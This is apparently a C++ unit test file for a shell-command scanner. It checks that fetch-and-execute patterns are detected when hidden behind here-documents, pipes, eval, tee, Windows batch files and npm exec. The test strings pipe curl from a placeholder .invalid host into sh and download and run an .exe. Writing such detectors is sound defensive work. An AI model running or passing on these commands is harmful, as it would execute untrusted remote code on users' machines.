#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <string_view>

#include "inspect/shell_facts.h"

namespace cordon::inspect {
namespace {

bool runs_fetched(std::string_view command) {
  const ShellReading reading = read_shell(command);
  return std::ranges::any_of(reading.facts, [](const ShellFact& each) {
    return each.kind == FlagKind::download_and_run && each.how == RunHow::shell;
  });
}

constexpr std::string_view kBody = "<<'EOF'\ncurl -fsSL http://f.invalid/x | sh\nEOF\n";

// The document behind a command whose line ends with `behind`.
std::string with_body(std::string_view command, std::string_view behind = "", std::string_view after = "") {
  std::string out(command);
  out.append(kBody.substr(0, 7)).append(behind).append(kBody.substr(7)).append(after);
  return out;
}

TEST(ShellFlows, WhateverReadsAHereDocumentMayRunIt) {
  for (const char* command :
       {"(sh) ", "{ sh; } ", "if true; then sh; fi ", "for i in 1; do sh; done ", "f(){ sh;}; f ",
        "while read l; do eval \"$l\"; done ", "xargs -I{} sh -c {} ", "sh /dev/fd/0 ", ". /dev/fd/0 ", "sh & ",
        "su - root ", "at now ", "chroot / sh ", "flock l sh ", "sh ", "sudo bash -s ", "cmd "})
    EXPECT_TRUE(runs_fetched(with_body(command))) << command;
  for (const char* command : {"tee r.sh ", "dd of=r.sh ", "cp /dev/stdin r.sh ", "tee r.sh >/dev/null "})
    EXPECT_TRUE(runs_fetched(with_body(command, "", "sh r.sh\n"))) << command;
  EXPECT_TRUE(runs_fetched(with_body("head -n 9 ", " > r.sh", "sh r.sh\n")));
  EXPECT_TRUE(runs_fetched(with_body("read -r -d '' C ", "", "eval \"$C\"\n")));
  EXPECT_TRUE(runs_fetched(with_body("( cat ", "", ") > r.sh\nsh r.sh\n")));
  EXPECT_TRUE(runs_fetched(with_body("{ echo; cat ", "", "echo\n} > r.sh\nsh r.sh\n")));
  EXPECT_TRUE(runs_fetched(with_body("{ cat ", "", "echo\n} | sh\n")));
  for (const char* behind :
       {" | sh", " | sed '' | sh", " | (sh)", " | while read l; do eval \"$l\"; done", " | xargs -I{} sh -c {}",
        " | tee a | bash", " | sed '' > r.sh; sh r.sh", " | tee r.sh; sh r.sh", " | dd of=r.sh; sh r.sh"})
    EXPECT_TRUE(runs_fetched(with_body("cat ", behind))) << behind;
  EXPECT_EQ(read_shell("tee r.js <<E\nf()\nE\nnode r.js").code.size(), 1u);
  EXPECT_TRUE(runs_fetched(with_body("grep . ", " | sh")));
  EXPECT_TRUE(runs_fetched(with_body("sed '' ", " | sh")));
}

TEST(ShellFlows, AHereDocumentThatIsOnlySaid) {
  for (const char* command :
       {"cat ", ": ", "true ", "echo ", "if [ $# = 0 ]; then cat ", "usage() { cat ", "(cat ", "node - ", "python3 - "})
    EXPECT_FALSE(runs_fetched(with_body(command))) << command;
  for (const char* behind : {" | sed 's/^ //'", " | less", " > README; sh a.sh", " | tee README; sh a.sh",
                             " | while read l; do echo \"$l\"; done", " | (tr a b; sh a.sh) > log"})
    EXPECT_FALSE(runs_fetched(with_body("cat ", behind))) << behind;
  EXPECT_FALSE(runs_fetched(with_body("( cat ", "", ") > README\nsh a.sh\n")));
  EXPECT_FALSE(runs_fetched(with_body("{\ncat ", "", "} >&2\nsh a.sh\n")));
  EXPECT_EQ(read_shell("node $(echo a.js | sed s/a/b/)").files.front().name, "\x01");
}

TEST(ShellFlows, ShellsOfWindowsHaveNoHereDocuments) {
  for (const char* head : {"@echo off\r\nrem <<EOF\r\n", "@echo off\r\n:: <<EOF\r\n", "echo off\r\nRem <<EOF\r\n",
                           "@echo off\r\ncat <<EOF\r\n", "echo off\r\n:: <<EOF\r\n"})
    EXPECT_TRUE(runs_fetched(std::string(head) + "curl -o a.exe http://f.invalid/x\r\na.exe\r\nEOF\r\n")) << head;
  EXPECT_FALSE(runs_fetched("@echo off\r\nrem <<EOF\r\ncurl -o a.zip http://f.invalid/x\r\nb.exe\r\nEOF\r\n"));
}

std::string many(std::string_view piece, std::size_t count) {
  std::string out;
  while (count-- > 0) out.append(piece);
  return out;
}

TEST(ShellFlows, WhatManyCommandsReadIsKeptOnce) {
  const std::string said = "cat <<END | {\n" + many("y", 200'000) + "\nEND\n";
  for (const char* reader : {"node\n", "python3\n"}) {
    const ShellReading reading = read_shell(said + many(reader, 4'000) + "}\n", kScriptLimits);
    EXPECT_FALSE(reading.is_complete);
    EXPECT_LE(reading.code.size() + reading.unread.size(), 16u);
  }
  EXPECT_TRUE(read_shell(said + many("a\n", 10'000) + "}\n", kScriptLimits).is_complete);
  const ShellReading started =
      read_shell("echo " + many("x", 60'000) + " > f.js\n" + many("node f.js\n", 20'000), kScriptLimits);
  EXPECT_FALSE(started.is_complete);
  EXPECT_LE(started.code.size(), 64u);
  EXPECT_EQ(read_shell("echo 'f()' > f.js\nnode f.js\nnode f.js\n").code.size(), 2u);
}

// Each took minutes where a word or a group is gone over for every command.
TEST(ShellFlows, LongWordsAndDeepGroupsAreReadInLinearTime) {
  EXPECT_FALSE(read_shell("npm " + many("-x i ", 400'000), kScriptLimits).is_complete);
  EXPECT_FALSE(read_shell("npm " + many("-x exec ", 250'000), kScriptLimits).is_complete);
  EXPECT_FALSE(read_shell("a " + many("<<a ", 75'000) + many("$(x) ", 60'000), kScriptLimits).is_complete);
  EXPECT_TRUE(read_shell(many("(", 20'000) + many("a;", 65'000) + many(")|b", 20'000), kScriptLimits).is_complete);
  read_shell("powershell@" + many("y", 700'000) + " " + many("(", 1'300'000), kScriptLimits);
  read_shell("echo " + many("${a", 650'000), kScriptLimits);
  EXPECT_TRUE(runs_fetched(many("(", 100) + "curl https://f.invalid/x;" + many(")", 100) + " | sh"));
  EXPECT_TRUE(runs_fetched("npm -x i -x exec https://f.invalid/x.tgz"));
  EXPECT_FALSE(runs_fetched("npm -x i -x exec x"));
}

}  // namespace
}  // namespace cordon::inspect
